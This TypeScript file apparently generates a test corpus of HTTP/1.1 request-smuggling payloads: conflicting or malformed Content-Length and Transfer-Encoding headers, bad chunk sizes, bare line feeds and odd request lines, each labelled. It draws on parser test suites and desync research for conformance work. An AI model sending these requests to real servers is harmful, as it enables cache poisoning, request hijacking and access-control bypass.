/** What is wrong with a message, and the message. */
export type SmugglingPayload = readonly [what: string, message: string];

/**
 * Messages of which two readers could see different ends. Sources: llhttp `test/request`, h1spec, the catalogue of
 * http-garden, "HTTP Desync Attacks" (Kettle 2019), RFC 9112 sections 5 to 7 and 11.2.
 *
 * @param head request line and headers of a good `POST`, without its length, ending in CRLF.
 * @param path of a `GET` that needs credentials.
 * @param inner a request that is well answered where the end of the one around it is mistaken.
 */
export function smugglingPayloads(head: string, inner: string, path: string): readonly SmugglingPayload[] {
  const chunked = `0\r\n\r\n${inner}`;
  return [
    ['a length beside chunks', `${head}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n${chunked}`],
    ['chunks beside a length', `${head}Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n${chunked}`],
    ['two lengths that differ', `${head}Content-Length: 0\r\nContent-Length: 44\r\n\r\n${inner}`],
    ['a list of lengths', `${head}Content-Length: 0, 44\r\n\r\n${inner}`],
    ['a length with a plus', `${head}Content-Length: +0\r\n\r\n${inner}`],
    ['a negative length', `${head}Content-Length: -1\r\n\r\n${inner}`],
    ['a length in hexadecimal', `${head}Content-Length: 0x0\r\n\r\n${inner}`],
    ['a length with a space inside', `${head}Content-Length: 4 4\r\n\r\n${inner}`],
    ['a length that overflows', `${head}Content-Length: 18446744073709551616\r\n\r\n${inner}`],
    ['an empty length', `${head}Content-Length:\r\n\r\n${inner}`],
    ['a space before the colon', `${head}Content-Length : 0\r\n\r\n${inner}`],
    ['a tab before the colon', `${head}Transfer-Encoding\t: chunked\r\n\r\n${chunked}`],
    ['an unknown coding', `${head}Transfer-Encoding: xchunked\r\n\r\n${chunked}`],
    ['identity and chunked', `${head}Transfer-Encoding: identity, chunked\r\n\r\n${chunked}`],
    ['chunked twice', `${head}Transfer-Encoding: chunked, chunked\r\n\r\n${chunked}`],
    ['chunked before another coding', `${head}Transfer-Encoding: chunked, gzip\r\n\r\n${chunked}`],
    [
      'two lines of codings',
      `${head}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n${chunked}`,
    ],
    ['a quoted coding', `${head}Transfer-Encoding: "chunked"\r\n\r\n${chunked}`],
    ['a coding with a parameter', `${head}Transfer-Encoding: chunked;q=1\r\n\r\n${chunked}`],
    ['a coding after a vertical tab', `${head}Transfer-Encoding: \u000bchunked\r\n\r\n${chunked}`],
    ['a folded coding', `${head}Transfer-Encoding:\r\n chunked\r\n\r\n${chunked}`],
    ['a folded header', `${head}X: a\r\n b\r\nContent-Length: 0\r\n\r\n${inner}`],
    ['a bare line feed in the headers', `${head}X: a\nContent-Length: 0\r\n\r\n${inner}`],
    ['a bare carriage return in the headers', `${head}X: a\rContent-Length: 0\r\n\r\n${inner}`],
    ['a NUL in a header', `${head}X: a\u0000b\r\nContent-Length: 0\r\n\r\n${inner}`],
    ['a header without a colon', `${head}Nonsense\r\nContent-Length: 0\r\n\r\n${inner}`],
    ['a header without a name', `${head}: x\r\nContent-Length: 0\r\n\r\n${inner}`],
    ['a chunk size that is none', `${head}Transfer-Encoding: chunked\r\n\r\nzz\r\n${inner}`],
    ['a chunk size with a prefix', `${head}Transfer-Encoding: chunked\r\n\r\n0x1\r\na\r\n${chunked}`],
    ['a negative chunk size', `${head}Transfer-Encoding: chunked\r\n\r\n-1\r\n${chunked}`],
    [
      'a chunk size that overflows',
      `${head}Transfer-Encoding: chunked\r\n\r\n10000000000000001\r\na\r\n${chunked}`,
    ],
    ['a chunk longer than its size', `${head}Transfer-Encoding: chunked\r\n\r\n1\r\nabc\r\n${chunked}`],
    ['a chunk size ended by a line feed', `${head}Transfer-Encoding: chunked\r\n\r\n1\na\r\n${chunked}`],
    ['a chunk ended by a line feed', `${head}Transfer-Encoding: chunked\r\n\r\n1\r\na\n${chunked}`],
    [
      'a chunk extension with a line feed',
      `${head}Transfer-Encoding: chunked\r\n\r\n1;a\nb\r\na\r\n${chunked}`,
    ],
    ['two hosts', `GET ${path} HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n${inner}`],
    ['a version that is none', `GET ${path} HTTP/1.9x\r\nHost: x\r\n\r\n${inner}`],
    ['no version', `GET ${path}\r\nHost: x\r\n\r\n${inner}`],
    ['a line feed in the target', `GET ${path}\n HTTP/1.1\r\nHost: x\r\n\r\n${inner}`],
    ['a space in the target', `GET ${path} x HTTP/1.1\r\nHost: x\r\n\r\n${inner}`],
    ['another protocol', `GET ${path} RTSP/1.0\r\nHost: x\r\n\r\n${inner}`],
    ['the preface of HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
  ];
}
